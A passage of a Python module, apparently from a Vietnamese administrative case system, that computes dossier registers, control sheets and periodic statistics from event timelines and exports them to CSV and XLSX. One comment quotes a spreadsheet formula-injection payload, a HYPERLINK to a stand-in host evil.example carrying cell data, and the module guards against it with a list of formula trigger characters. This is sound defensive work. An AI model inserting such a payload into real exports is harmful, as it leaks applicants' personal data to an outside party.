"""Reports from the case history (pure): register (Mẫu 06), control sheet (Mẫu 05), periodic report.

Every figure is computed from each dossier's events (its timeline), not from the live snapshot, so
a report for a past period gives the same answer whenever it is run, and a dossier's position at
the period's end (in progress, waiting for supplementation, overdue) is what it was then.
Exports: CSV (UTF-8 with BOM so Excel shows Vietnamese) and XLSX (openpyxl).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time, timedelta
from typing import Any

from . import sla
from .domain import vocab
from .errors import ValidationError
from .replay import ReplayEvent
from .statuses import STATUS_LABELS

Cell = str | int | float | None
#: Reporting periods: months m1…m12 (plan 003/004's monthly report), quarters, 6 and 9 months, year.
PERIOD_MONTHS: dict[str, tuple[int, int]] = {
    **{f"m{month}": (month, month) for month in range(1, 13)},
    "q1": (1, 3),
    "q2": (4, 6),
    "q3": (7, 9),
    "q4": (10, 12),
    "h1": (1, 6),
    "9m": (1, 9),
    "year": (1, 12),
}
PERIOD_LABELS = {
    **{f"m{month}": f"Tháng {month}" for month in range(1, 13)},
    "q1": "Quý I",
    "q2": "Quý II",
    "q3": "Quý III",
    "q4": "Quý IV",
    "h1": "6 tháng",
    "9m": "9 tháng",
    "year": "Năm",
}
CHANNEL_LABELS = {1: "Trực tiếp", 2: "Trực tuyến", 3: "Bưu chính"}
OUTCOME_LABELS = {"early": "Trước hạn", "on_time": "Đúng hạn", "late": "Quá hạn"}
DESK_ROLES = vocab.DESK_ROLES
#: Who handles a dossier no processing department has touched yet: the desk that holds it.
DESK_UNIT = "Bộ phận tiếp nhận và trả kết quả"


# ------------------------------------------------------------------------------------ facts


@dataclass(frozen=True)
class DossierFacts:
    """One dossier's timeline, as every report needs it (derived from its events)."""

    code: str
    procedure_id: str
    procedure_name: str
    applicant: dict[str, Any]
    channel: int
    submitted_at: datetime
    received_at: datetime | None = None
    original_due_at: datetime | None = None  # appointment printed on the receipt
    due_at: datetime | None = None  # latest appointment (after restarts and apologies)
    handed_over_at: datetime | None = None  # first step of the processing department became ready
    finished_at: datetime | None = None  # result ready (status 9, or 10 when returned at once)
    returned_at: datetime | None = None
    refused_at: datetime | None = None  # status 3
    stopped_at: datetime | None = None  # status 8
    withdrawal_requested_at: datetime | None = None  # status 7
    outcome: str | None = None
    supplements: tuple[tuple[datetime, datetime | None], ...] = ()  # processing pauses (requested, resumed)
    # Waits for a fee (status 6; requested, paid). Never a supplementation: plan 004 and Decision 766
    # count supplementation requests, and a fee is the applicant's obligation, not a missing document.
    payment_waits: tuple[tuple[datetime, datetime | None], ...] = ()
    receipt_supplements: tuple[datetime, ...] = ()  # requests at the desk, before the clock started
    apologies: tuple[datetime, ...] = ()  # apologies for lateness (Mẫu 04; the dossier is late)
    mistake_apologies: tuple[datetime, ...] = ()  # for a mistake or a calendar change (not late)
    due_history: tuple[tuple[datetime, datetime], ...] = ()  # (when set, appointment) in order
    return_method: str | None = None
    unit: str | None = None
    status: int = 1
    # Sources the case history does not hold; None = no data.
    electronic_result: bool | None = None
    paid_online: bool | None = None
    fee: int = 0
    result_type: str = "paper"  # the procedure's result: paper or electronic
    legal_unit: str = "working_days"
    fee_wait_counts: bool = False  # the procedure counts the fee wait toward processing time
    synced: bool | None = None
    rating: int | None = None  # 1 not satisfied, 2 satisfied, 3 very satisfied
    rated_at: datetime | None = None
    # The desk's 8-working-hour deadline of an online dossier and when the desk first decided.
    receipt_due_at: datetime | None = None
    receipt_decided_at: datetime | None = None
    # Digital one-stop (from the history): components in electronic form — digitised at the
    # counter, reused from the citizen's data store, or uploaded by the citizen online — the result
    # digitised or issued signed, and at least one component reused (766 indicators 4.2 and 4.3).
    components_digital: bool = False
    result_digital: bool = False
    reused: bool = False
    complaints: tuple[datetime, ...] = ()  # complaints about this dossier, when received

    def due_as_of(self, moment: datetime) -> datetime | None:
        """The appointment in force at ``moment`` (a later apology or restart does not count yet)."""
        current: datetime | None = None
        for at, due in self.due_history:
            if at < moment:
                current = due
        return current

    @property
    def ended_at(self) -> datetime | None:
        """End of processing for statistics: result ready, else returned, else stopped/refused."""
        return self.finished_at or self.returned_at or self.stopped_at or self.refused_at

    def waiting_at(self, moment: datetime) -> datetime | None:
        """When the supplementation request pending at ``moment`` was made (None when not waiting)."""
        return _pending(self.supplements, moment)

    def paying_at(self, moment: datetime) -> datetime | None:
        """When the fee wait pending at ``moment`` began (None when no fee is awaited then)."""
        return _pending(self.payment_waits, moment)

    def paused_waits(self) -> tuple[tuple[datetime, datetime | None], ...]:
        """The waits that do not count toward processing time: supplementations, and fee waits
        unless the procedure counts them."""
        if self.fee_wait_counts:
            return self.supplements
        return tuple(sorted(self.supplements + self.payment_waits))


def _pending(waits: Iterable[tuple[datetime, datetime | None]], moment: datetime) -> datetime | None:
    for requested, resumed in waits:
        if requested <= moment and (resumed is None or resumed > moment):
            return requested
    return None


def dossier_facts(
    code: str,
    events: Sequence[ReplayEvent],
    *,
    procedure_name: str = "",
    elements: Mapping[str, Mapping[str, Any]] | None = None,
    **sources: Any,
) -> DossierFacts:
    """Fold one dossier's events (seq order) into its timeline; ``sources`` fill the no-history fields."""
    elements = elements or {}
    start = events[0]
    p = start.payload
    found: dict[str, Any] = {
        "code": code,
        "procedure_id": str(p.get("procedure_id", "")),
        "procedure_name": procedure_name,
        "applicant": dict(p.get("applicant") or {}),
        "channel": int(p.get("channel", 1)),
        "submitted_at": start.at,
        "receipt_due_at": _moment(p.get("receipt_due_at")),
    }
    supplements: list[tuple[datetime, datetime | None]] = []
    payments: list[tuple[datetime, datetime | None]] = []
    receipt: list[datetime] = []
    apologies: list[datetime] = []
    mistakes: list[datetime] = []
    dues: list[tuple[datetime, datetime]] = []
    status = 1
    for e in events[1:]:
        if e.kind == "status_changed" and e.status_to is not None:
            status = e.status_to
            key = {
                2: "received_at",
                3: "refused_at",
                7: "withdrawal_requested_at",
                8: "stopped_at",
                10: "returned_at",
            }
            name = key.get(e.status_to)
            if name is not None and name not in found:
                found[name] = e.at
            if e.status_to == 5 and e.status_from == 1:
                receipt.append(e.at)
            if e.status_from == 1 and "receipt_decided_at" not in found:
                found["receipt_decided_at"] = e.at
        elif e.kind == "due_set":
            due = _moment(e.payload.get("due_at"))
            found["due_at"] = due
            if due is not None:
                dues.append((e.at, due))
            if e.payload.get("reason") == "accepted" and "original_due_at" not in found:
                found["original_due_at"] = due
            elif str(e.payload.get("reason", "")).startswith("supplemented") and supplements:
                supplements[-1] = (supplements[-1][0], e.at)
            elif str(e.payload.get("reason", "")).startswith("paid") and payments:
                payments[-1] = (payments[-1][0], e.at)
        elif e.kind == "clock_paused":
            # A fee wait (status 6) pauses the clock too; it is told apart by its payload.
            if e.payload.get("waiting_for") == "payment":
                payments.append((e.at, None))
            else:
                supplements.append((e.at, None))
        elif e.kind == "apology_issued":
            late = (e.payload.get("kind") or "late") == "late"
            (apologies if late else mistakes).append(e.at)
            new_due = _moment(e.payload.get("new_due_at"))
            if new_due is not None:
                found["due_at"] = new_due
                dues.append((e.at, new_due))
        elif e.kind == "calendar_changed" and e.payload.get("receipt_due_at"):
            # A day off or make-up day declared while the dossier waited at the desk moved its deadline.
            found["receipt_due_at"] = _moment(e.payload.get("receipt_due_at"))
        elif e.kind == "case_finished":
            found.setdefault("finished_at", e.at)
            found["outcome"] = e.payload.get("outcome")
        elif e.kind == "task_ready":
            role = e.payload.get("role")
            if "received_at" in found and "handed_over_at" not in found and role not in DESK_ROLES:
                found["handed_over_at"] = e.at
        elif e.kind in ("document_digitised", "document_reused") and e.payload.get("document_code") != "KQ":
            found["components_digital"] = True
            if e.kind == "document_reused":
                found["reused"] = True
        elif e.kind == "document_digitised" or (e.kind == "result_attached" and e.payload.get("signed")):
            found["result_digital"] = True
        elif e.kind == "document_added" and e.actor == "citizen" and found["channel"] == 2:
            found["components_digital"] = True
        elif e.kind == "task_completed":
            element = elements.get(e.element_id or "") or {}
            if element.get("kind") == "return":
                method = (e.payload.get("data") or {}).get("method")
                found["return_method"] = str(method) if method else None
    found.update(status=status, supplements=tuple(supplements), receipt_supplements=tuple(receipt))
    found["payment_waits"] = tuple(payments)
    found["apologies"] = tuple(apologies)
    found["mistake_apologies"] = tuple(mistakes)
    found["due_history"] = tuple(dues)
    if found.get("returned_at") is not None and "finished_at" not in found:
        found["finished_at"] = found["returned_at"]
    if found.get("return_method") == "electronic" and sources.get("electronic_result") is None:
        found["electronic_result"] = True
    found.update({k: v for k, v in sources.items() if v is not None or k not in found})
    return DossierFacts(**found)


def _moment(value: Any) -> datetime | None:
    return datetime.fromisoformat(value) if isinstance(value, str) and value else None


def handling_unit(events: Iterable[ReplayEvent], units: Mapping[str, str | None]) -> str:
    """The unit that handles a dossier: that of whoever did its first step outside the desk, else
    that of the desk officer who acted on it, else the desk itself (awaiting receipt)."""
    desk: str | None = None
    for e in events:
        if e.kind != "task_completed":
            continue
        unit = units.get(e.actor)
        if e.payload.get("role") not in DESK_ROLES and unit:
            return unit
        if e.payload.get("role") == "desk_clerk" and desk is None:
            desk = unit
    return desk or DESK_UNIT


# ------------------------------------------------------------------------------------ periods


@dataclass(frozen=True)
class CutoffRule:
    """How a plan cuts its reporting periods: a data window from ``start_day`` to ``end_day``, both
    inclusive.

    ``start_day`` 1 = calendar months (a period starts on the 1st of its first month); any other
    day D starts it on the D-th of the month *before* its first month (plan 000: 15/12 of the
    previous year for quarter I). ``end_day`` is the last day counted in the period's last month;
    None = the day before ``start_day`` (plan 000: 14/3), or the month's end for calendar months; a
    day beyond a month's length is its last day. Plan 002: ``CutoffRule(10, 10)`` = 10/12 – 10/3.
    ``overrides`` fixes any (year, period) window by hand.
    """

    start_day: int = 1
    end_day: int | None = None
    overrides: Mapping[tuple[int, str], tuple[date, date]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        if not 1 <= self.start_day <= 28:
            raise ValidationError(f"Ngày bắt đầu kỳ số liệu phải từ 1 đến 28 (nhận được {self.start_day})")
        if self.end_day is not None and not 1 <= self.end_day <= 31:
            raise ValidationError(f"Ngày chốt số liệu phải từ 1 đến 31 (nhận được {self.end_day})")

    def describe(self) -> str:
        """The window in words, for report subtitles and forms."""
        if self.start_day == 1 and self.end_day is None:
            return "theo tháng dương lịch"
        start = "ngày 1 tháng đầu kỳ" if self.start_day == 1 else f"ngày {self.start_day} tháng trước kỳ"
        end = "cuối tháng" if self.end_day is None and self.start_day == 1 else f"ngày {self._end()}"
        return f"từ {start} đến {end} tháng cuối kỳ"

    def _end(self) -> int:
        if self.end_day is not None:
            return self.end_day
        return 31 if self.start_day == 1 else self.start_day - 1


#: The plans' windows (../shared/domain/plans.md), named for forms and the CLI.
CUTOFF_PRESETS: dict[str, CutoffRule] = {
    "calendar": CutoffRule(),
    "000": CutoffRule(15, 14),
    "002": CutoffRule(10, 10),
}


def period_window(year: int, period: str, rule: CutoffRule | None = None) -> tuple[date, date]:
    """First and last day (inclusive) of a reporting period."""
    rule = rule or CutoffRule()
    if (year, period) in rule.overrides:
        return rule.overrides[(year, period)]
    if period not in PERIOD_MONTHS:
        raise ValidationError(f"Kỳ báo cáo không hợp lệ: “{period}” (tháng m1–m12, q1–q4, h1, 9m, year)")
    first, last = PERIOD_MONTHS[period]
    if rule.start_day == 1:
        start = date(year, first, 1)
    else:
        start = date(year - 1, 12, rule.start_day) if first == 1 else date(year, first - 1, rule.start_day)
    month_end = (date(year + 1, 1, 1) if last == 12 else date(year, last + 1, 1)) - timedelta(days=1)
    end = date(year, last, min(rule._end(), month_end.day))
    if end < start:
        raise ValidationError(f"Kỳ số liệu rỗng: từ {start:%d/%m/%Y} đến {end:%d/%m/%Y}")
    return start, end


def local_bounds(first: date, last: date) -> tuple[datetime, datetime]:
    """[first 00:00, day after last 00:00) local, in UTC."""
    start = datetime.combine(first, time(0, 0), sla.LOCAL_TZ).astimezone(UTC)
    end = datetime.combine(last + timedelta(days=1), time(0, 0), sla.LOCAL_TZ).astimezone(UTC)
    return start, end


def _within(moment: datetime | None, start: datetime, end: datetime) -> bool:
    return moment is not None and start <= moment < end


# ------------------------------------------------------------------------------------ tables


@dataclass(frozen=True)
class Table:
    """A printable report: title lines, column headers, rows."""

    title: str
    headers: tuple[str, ...]
    rows: tuple[tuple[Cell, ...], ...]
    subtitle: tuple[str, ...] = ()

    def as_dict(self) -> dict[str, Any]:
        return {
            "title": self.title,
            "subtitle": list(self.subtitle),
            "headers": list(self.headers),
            "rows": [list(r) for r in self.rows],
        }


# A spreadsheet reads a cell starting with one of these as a formula (or DDE command): an applicant
# named =HYPERLINK("http://evil.example/?d="&A1,"Xem") would leak the register to whoever clicks.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Cell) -> bool:
    """Whether a spreadsheet would evaluate ``value`` instead of showing it (the one place deciding)."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def _csv_cell(value: Cell) -> Cell:
    # CSV has no cell types: the leading apostrophe is the convention Excel and LibreOffice honour.
    if value is None:
        return ""
    return f"'{value}" if formula_like(value) else value


def to_csv(table: Table) -> bytes:
    """CSV with a UTF-8 BOM (Excel otherwise garbles Vietnamese); title lines first; formula-like
    text neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([_csv_cell(table.title)])
    for line in table.subtitle:
        writer.writerow([_csv_cell(line)])
    writer.writerow([_csv_cell(h) for h in table.headers])
    writer.writerows([_csv_cell(c) for c in row] for row in table.rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def _xlsx_value(cell: Any, value: Cell) -> None:
    """Write ``value``; formula-like text is stored as a text cell (with Excel's quote prefix), so it
    is shown exactly as typed and never evaluated."""
    cell.value = value
    if formula_like(value):
        cell.data_type = "s"
        cell.quotePrefix = True


def to_xlsx(table: Table) -> bytes:
    """An A4-landscape sheet: merged title, bold wrapped headers, borders, frozen header row."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Border, Font, Side
    from openpyxl.utils import get_column_letter

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = table.title[:31] or "Báo cáo"
    width = max(1, len(table.headers))
    lines = [table.title, *table.subtitle]
    for index, line in enumerate(lines, start=1):
        _xlsx_value(sheet.cell(row=index, column=1), line)
        sheet.cell(row=index, column=1).font = Font(bold=index == 1, size=13 if index == 1 else 11)
        sheet.merge_cells(start_row=index, start_column=1, end_row=index, end_column=width)
        sheet.cell(row=index, column=1).alignment = Alignment(horizontal="center")
    thin = Side(style="thin")
    border = Border(left=thin, right=thin, top=thin, bottom=thin)
    header_row = len(lines) + 2
    for col, name in enumerate(table.headers, start=1):
        cell = sheet.cell(row=header_row, column=col)
        _xlsx_value(cell, name)
        cell.font = Font(bold=True)
        cell.alignment = Alignment(wrap_text=True, horizontal="center", vertical="center")
        cell.border = border
    for r, row in enumerate(table.rows, start=header_row + 1):
        for col, value in enumerate(row, start=1):
            cell = sheet.cell(row=r, column=col)
            _xlsx_value(cell, value)
            cell.border = border
            cell.alignment = Alignment(wrap_text=True, vertical="top")
    for col, name in enumerate(table.headers, start=1):
        longest = max([len(str(name)) // 2, *(len(str(row[col - 1] or "")) for row in table.rows)])
        sheet.column_dimensions[get_column_letter(col)].width = min(40, max(8, longest + 2))
    sheet.freeze_panes = f"A{header_row + 1}"
    sheet.page_setup.orientation = "landscape"
    sheet.page_setup.paperSize = sheet.PAPERSIZE_A4
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _when(moment: datetime | None) -> str:
    if moment is None:
        return ""
    return moment.astimezone(sla.LOCAL_TZ).strftime("%H:%M %d/%m/%Y")


# ------------------------------------------------------------------------------------ Mẫu 06


REGISTER_HEADERS = (
    "STT",
    "Mã hồ sơ",
    "Tên thủ tục hành chính",
    "Tên cá nhân, tổ chức",
    "Địa chỉ, số điện thoại",
    "Kênh nộp",
    "Cơ quan, đơn vị giải quyết",
    "Ngày, giờ nhận hồ sơ",
    "Ngày, giờ hẹn trả kết quả",
    "Ngày, giờ chuyển hồ sơ",
    "Ngày, giờ có kết quả",
    "Ngày, giờ trả kết quả",
    "Tình trạng",
    "Ghi chú",
)


def register(
    facts: Iterable[DossierFacts], first: date, last: date, *, agency: str = "", first_number: int = 1
) -> Table:
    """Sổ theo dõi hồ sơ (Mẫu 06): dossiers submitted in [first, last], in order of arrival.

    A page of the register passes its rows and the number (STT) of its first row."""
    start, end = local_bounds(first, last)
    chosen = sorted((f for f in facts if _within(f.submitted_at, start, end)), key=register_order)
    rows: list[tuple[Cell, ...]] = []
    for number, f in enumerate(chosen, start=first_number):
        contact = ", ".join(str(f.applicant[k]) for k in ("address", "phone") if f.applicant.get(k))
        rows.append(
            (
                number,
                f.code,
                f.procedure_name or f.procedure_id,
                str(f.applicant.get("name", "")),
                contact,
                CHANNEL_LABELS.get(f.channel, str(f.channel)),
                f.unit or DESK_UNIT,
                _when(f.received_at or f.submitted_at),
                _when(f.original_due_at),
                _when(f.handed_over_at),
                _when(f.finished_at),
                _when(f.returned_at),
                STATUS_LABELS.get(f.status, str(f.status)),
                _register_note(f),
            )
        )
    subtitle = (f"Từ ngày {first:%d/%m/%Y} đến ngày {last:%d/%m/%Y}",) + ((agency,) if agency else ())
    return Table("SỔ THEO DÕI HỒ SƠ (Mẫu số 06)", REGISTER_HEADERS, tuple(rows), subtitle)


def register_order(f: DossierFacts) -> tuple[datetime, str]:
    """The register's order: arrival, then code (its pages are cut in this order)."""
    return f.submitted_at, f.code


def _register_note(f: DossierFacts) -> str:
    notes: list[str] = []
    if f.outcome:
        notes.append(OUTCOME_LABELS.get(f.outcome, f.outcome))
    if f.receipt_supplements or f.supplements:
        notes.append(f"Yêu cầu bổ sung {len(f.receipt_supplements) + len(f.supplements)} lần")
    if f.apologies:
        notes.append(f"Phiếu xin lỗi, hẹn lại: {_when(f.due_at)}")
    if f.mistake_apologies:
        notes.append(f"Phiếu xin lỗi do sai sót: {len(f.mistake_apologies)}")
    if f.refused_at:
        notes.append("Từ chối")
    if f.stopped_at:
        notes.append("Dừng xử lý")
    if f.withdrawal_requested_at:
        notes.append("Rút hồ sơ")
    if f.payment_waits:
        paid = all(resumed is not None for _, resumed in f.payment_waits)
        notes.append("Đã thực hiện nghĩa vụ tài chính" if paid else "Chờ thực hiện nghĩa vụ tài chính")
    return "; ".join(notes)


# ------------------------------------------------------------------------------------ Mẫu 05


CONTROL_HEADERS = (
    "STT",
    "Bước",
    "Bộ phận giao",
    "Người giao",
    "Bộ phận nhận",
    "Người nhận",
    "Thời gian giao, nhận",
    "Hạn của bước",
    "Kết quả",
)


def control_sheet(
    code: str,
    events: Sequence[ReplayEvent],
    elements: Mapping[str, Mapping[str, Any]],
    names: Mapping[str, str] | None = None,
) -> Table:
    """Phiếu kiểm soát quá trình giải quyết hồ sơ (Mẫu 05), one row per handover, from the events.

    A handover is a completed step and the steps it made ready: the giver is who completed it, the
    receiver who later completed (or claimed) the next step; the result is the given step's
    early / on time / late against its allocated time.
    """
    names = names or {}
    ready_at: dict[str, ReplayEvent] = {}
    taken_by: dict[str, str] = {}
    for e in events:
        if e.kind == "task_ready" and e.task_id:
            ready_at[e.task_id] = e
        elif e.kind in ("task_claimed", "task_reassigned") and e.task_id and e.payload.get("assignee"):
            taken_by[e.task_id] = str(e.payload["assignee"])
        elif e.kind == "task_completed" and e.task_id:
            taken_by[e.task_id] = e.actor
    start = events[0]
    applicant = str((start.payload.get("applicant") or {}).get("name", ""))
    rows: list[tuple[Cell, ...]] = []

    def lane(element_id: str | None) -> str:
        element = elements.get(element_id or "") or {}
        return str(element.get("lane") or element.get("role") or "")

    def person(username: str | None) -> str:
        return names.get(username or "", username or "")

    first_ready = [e for e in events if e.kind == "task_ready" and e.at == start.at]
    rows.append(
        (
            1,
            "Nộp hồ sơ",
            "Người nộp hồ sơ",
            applicant,
            ", ".join(lane(e.element_id) for e in first_ready) or "Bộ phận tiếp nhận và trả kết quả",
            ", ".join(person(taken_by.get(e.task_id or "")) for e in first_ready),
            _when(start.at),
            "",
            "",
        )
    )
    for e in events:
        if e.kind != "task_completed":
            continue
        following = [n for n in events if n.kind == "task_ready" and n.at == e.at and n.seq > e.seq]
        element = elements.get(e.element_id or "") or {}
        rows.append(
            (
                len(rows) + 1,
                str(element.get("name") or e.element_id or ""),
                lane(e.element_id),
                person(e.actor),
                ", ".join(lane(n.element_id) for n in following) or "(kết thúc)",
                ", ".join(person(taken_by.get(n.task_id or "")) for n in following),
                _when(e.at),
                _when(_moment(e.payload.get("due_at"))),
                OUTCOME_LABELS.get(str(e.payload.get("outcome")), ""),
            )
        )
    title = "PHIẾU KIỂM SOÁT QUÁ TRÌNH GIẢI QUYẾT HỒ SƠ (Mẫu số 05)"
    return Table(title, CONTROL_HEADERS, tuple(rows), (f"Mã hồ sơ: {code}", f"Người nộp: {applicant}"))


# ------------------------------------------------------------------------------------ periodic


@dataclass
class Counts:
    """One line of the periodic report (a procedure, a unit, or the total)."""

    carried_over: int = 0
    received_online: int = 0
    received_in_person: int = 0
    received_post: int = 0
    finished_early: int = 0
    finished_on_time: int = 0
    finished_late: int = 0
    in_progress_on_time: int = 0
    in_progress_overdue: int = 0
    waiting_supplement: int = 0
    waiting_payment: int = 0
    supplemented_dossiers: int = 0
    supplement_requests: int = 0
    refused: int = 0
    stopped: int = 0
    withdrawn: int = 0
    repeat_supplements: int = 0  # dossiers asked a second time (at the desk or in processing)
    apologies_late: int = 0  # Mẫu 04 for lateness issued in the period
    apologies_mistake: int = 0  # Mẫu 04 for a mistake (or an appointment a calendar change moved)

    @property
    def received(self) -> int:
        return self.received_online + self.received_in_person + self.received_post

    @property
    def total(self) -> int:
        return self.carried_over + self.received

    @property
    def finished(self) -> int:
        return self.finished_early + self.finished_on_time + self.finished_late

    @property
    def in_progress(self) -> int:
        return (
            self.in_progress_on_time
            + self.in_progress_overdue
            + self.waiting_supplement
            + self.waiting_payment
        )

    def add(self, other: Counts) -> None:
        for name in self.__dataclass_fields__:
            setattr(self, name, getattr(self, name) + getattr(other, name))

    def as_dict(self) -> dict[str, int]:
        plain = {name: int(getattr(self, name)) for name in self.__dataclass_fields__}
        plain.update(
            received=self.received, total=self.total, finished=self.finished, in_progress=self.in_progress
        )
        return plain


def count_dossier(f: DossierFacts, start: datetime, end: datetime) -> Counts:
    """What one dossier contributes to a period [start, end)."""
    c = Counts()
    requests = [r for r, _ in f.supplements] + list(f.receipt_supplements)
    in_window = [r for r in requests if _within(r, start, end)]
    if in_window:
        c.supplemented_dossiers, c.supplement_requests = 1, len(in_window)
        # The second request of one phase (desk, or processing) falls in this period.
        phases = ([r for r, _ in f.supplements], list(f.receipt_supplements))
        seconds = [requests[1] for requests in phases if len(requests) > 1]
        c.repeat_supplements = int(any(_within(r, start, end) for r in seconds))
    c.apologies_late = sum(1 for a in f.apologies if _within(a, start, end))
    c.apologies_mistake = sum(1 for a in f.mistake_apologies if _within(a, start, end))
    c.refused = int(_within(f.refused_at, start, end))
    c.stopped = int(_within(f.stopped_at, start, end))
    c.withdrawn = int(_within(f.withdrawal_requested_at, start, end))
    if f.received_at is None or f.received_at >= end:
        return c
    ended = f.ended_at
    if ended is not None and ended < start:
        return c  # settled in an earlier period
    if f.received_at < start:
        c.carried_over = 1
    else:
        channel = {1: "received_in_person", 2: "received_online", 3: "received_post"}.get(f.channel)
        if channel is not None:
            setattr(c, channel, 1)
    if ended is not None and ended < end:
        if f.finished_at is not None and f.finished_at == ended:
            outcome = f.outcome or "on_time"
            setattr(c, f"finished_{outcome}", 1)
        return c
    due = f.due_as_of(end)
    if f.waiting_at(end) is not None:
        c.waiting_supplement = 1  # the clock is stopped: neither on time nor late yet
    elif f.paying_at(end) is not None and not f.fee_wait_counts:
        c.waiting_payment = 1  # stopped too, for the fee: never a supplementation
    elif due is not None and due < end:
        c.in_progress_overdue = 1
    else:
        c.in_progress_on_time = 1
    return c


def latest_moment(f: DossierFacts) -> datetime:
    """The latest moment :func:`count_dossier` compares with a window.

    A dossier counts in a window only if one of its moments falls in it, or if it was received
    before the window's end and had not ended before its start (``ended_at`` is one of these
    moments): so a dossier whose latest moment is before a window and that ended counts nothing
    in it. The facts read model stores this to select a window's dossiers in SQL.
    """
    return max(m for m in _moments(f) if m is not None)


# ------------------------------------------------------------------------------------ by local day
#
# A report's window is whole local days [first 00:00, day after last 00:00), so every comparison
# :func:`count_dossier` makes with it is decided by day. That lets each dossier's contribution to
# every window be written once, as per-day figures a database sums over a day range (the report
# rollup, engine.report_rollup), instead of counting each dossier per report. Each figure is read
# off :func:`count_dossier` itself (at one-day windows), so the rule stays in one place:
#
# - ADDITIVE fields count moments in the window: a window's figure is the sum over its days.
# - ONCE fields count a dossier once if at least one of its moments falls in the window: kept as
#   pairs (previous hit day, hit day); a window [s, e) counts the pair whose previous < s <= day < e.
# - AT_START (carried over) is a function of the window's first day only, AT_END (in progress at
#   the end) of its end only: kept as changes (deltas) at the days where they change, a window
#   reads their sum up to its start (resp. end).
#
# ADDITIVE is exact only when a dossier does not end on a day before its receipt (the received and
# finished figures then also depend on the other boundary): such dossiers are "irregular" and are
# counted by count_dossier per report (see :func:`rollup_regular`).
ADDITIVE_FIELDS = (
    "received_online",
    "received_in_person",
    "received_post",
    "finished_early",
    "finished_on_time",
    "finished_late",
    "supplement_requests",
    "refused",
    "stopped",
    "withdrawn",
    "apologies_late",
    "apologies_mistake",
)
ONCE_FIELDS = ("supplemented_dossiers", "repeat_supplements")
AT_START_FIELDS = ("carried_over",)
AT_END_FIELDS = ("in_progress_on_time", "in_progress_overdue", "waiting_supplement", "waiting_payment")
#: One contribution: (field, day, previous day) with days as proleptic ordinals (date.toordinal);
#: the previous day is 0 except for ONCE fields.
RollupKey = tuple[str, int, int]


def local_day(moment: datetime) -> int:
    """The local (Asia/Ho_Chi_Minh) day of a moment, as an ordinal."""
    return moment.astimezone(sla.LOCAL_TZ).date().toordinal()


def rollup_regular(f: DossierFacts) -> bool:
    """Whether :func:`rollup_contributions` is exact for this dossier (it did not end on a day
    before the day it was received)."""
    ended = f.ended_at
    return f.received_at is None or ended is None or local_day(ended) >= local_day(f.received_at)


def rollup_contributions(f: DossierFacts) -> dict[RollupKey, int]:
    """What a (regular) dossier adds to the report rollup; any window's figures are then
    ADDITIVE: sum over day in [s, e); ONCE: sum where previous < s <= day < e; AT_START: sum over
    day <= s; AT_END: sum over day <= e (s = first day, e = day after the last).

    Every comparison of a moment m with a boundary midnight B (m < B, m <= B) flips only between
    B = midnight(day(m)) and midnight(day(m) + 1); so the figures that depend on one boundary are
    constant between those candidate days and are evaluated only there."""
    moments = [m for m in (*_moments(f), *(x for pair in f.due_history for x in pair)) if m is not None]
    days = sorted({local_day(m) for m in moments})
    candidates = sorted({d for day in days for d in (day, day + 1)})
    at: dict[int, Counts] = {}

    def one_day(day: int) -> Counts:  # the one-day window [day 00:00, day + 1 00:00)
        if day not in at:
            first = date.fromordinal(day)
            at[day] = count_dossier(f, *local_bounds(first, first))
        return at[day]

    out: dict[RollupKey, int] = {}
    hits: dict[str, list[int]] = {name: [] for name in ONCE_FIELDS}
    for day in days:
        c = one_day(day)
        for name in ADDITIVE_FIELDS:
            if value := getattr(c, name):
                out[(name, day, 0)] = value
        for name in ONCE_FIELDS:
            if getattr(c, name):
                hits[name].append(day)
    for name, found in hits.items():
        for previous, day in zip([0, *found], found, strict=False):
            out[(name, day, previous)] = 1
    before = dict.fromkeys(AT_START_FIELDS + AT_END_FIELDS, 0)
    for day in candidates:
        # Carried over depends on the start only (window starting on ``day``); the in-progress
        # fields on the end only (window ending at ``day`` 00:00).
        now = {name: getattr(one_day(day), name) for name in AT_START_FIELDS}
        now.update({name: getattr(one_day(day - 1), name) for name in AT_END_FIELDS})
        for name, value in now.items():
            if value != before[name]:
                out[(name, day, 0)] = value - before[name]
        before = now
    return out


def _moments(f: DossierFacts) -> list[datetime | None]:
    return [
        f.submitted_at,
        f.received_at,
        f.finished_at,
        f.returned_at,
        f.refused_at,
        f.stopped_at,
        f.withdrawal_requested_at,
        *(m for wait in (*f.supplements, *f.payment_waits) for m in wait),
        *f.receipt_supplements,
        *f.apologies,
        *f.mistake_apologies,
    ]


def rollup_window(first: date, last: date) -> tuple[int, int]:
    """A report window's (s, e): its first day and the day after its last, as ordinals."""
    return first.toordinal(), last.toordinal() + 1


PERIODIC_HEADERS = (
    "STT",
    "Thủ tục hành chính / cơ quan, đơn vị",
    "Kỳ trước chuyển qua",
    "Mới tiếp nhận trực tuyến",
    "Mới tiếp nhận trực tiếp",
    "Mới tiếp nhận qua bưu chính",
    "Tổng số hồ sơ",
    "Đã giải quyết trước hạn",
    "Đã giải quyết đúng hạn",
    "Đã giải quyết quá hạn",
    "Đang giải quyết trong hạn",
    "Đang giải quyết quá hạn",
    "Đang chờ bổ sung",
    "Đang chờ thực hiện nghĩa vụ tài chính",
    "Hồ sơ phải bổ sung",
    "Số lần yêu cầu bổ sung",
    "Từ chối",
    "Dừng xử lý",
    "Rút hồ sơ",
    "Hồ sơ yêu cầu bổ sung lần thứ hai",
    "Phiếu xin lỗi do quá hạn",
    "Phiếu xin lỗi do sai sót",
)


@dataclass(frozen=True)
class PeriodicReport:
    """Counts per procedure (and per unit) and in total for one reporting window."""

    first: date
    last: date
    label: str
    by_procedure: dict[str, Counts]
    by_unit: dict[str, Counts]
    total: Counts
    procedure_names: dict[str, str]

    def as_dict(self) -> dict[str, Any]:
        return {
            "from": self.first.isoformat(),
            "to": self.last.isoformat(),
            "label": self.label,
            "total": self.total.as_dict(),
            "by_procedure": {k: v.as_dict() for k, v in self.by_procedure.items()},
            "by_unit": {k: v.as_dict() for k, v in self.by_unit.items()},
        }

    def table(self) -> Table:
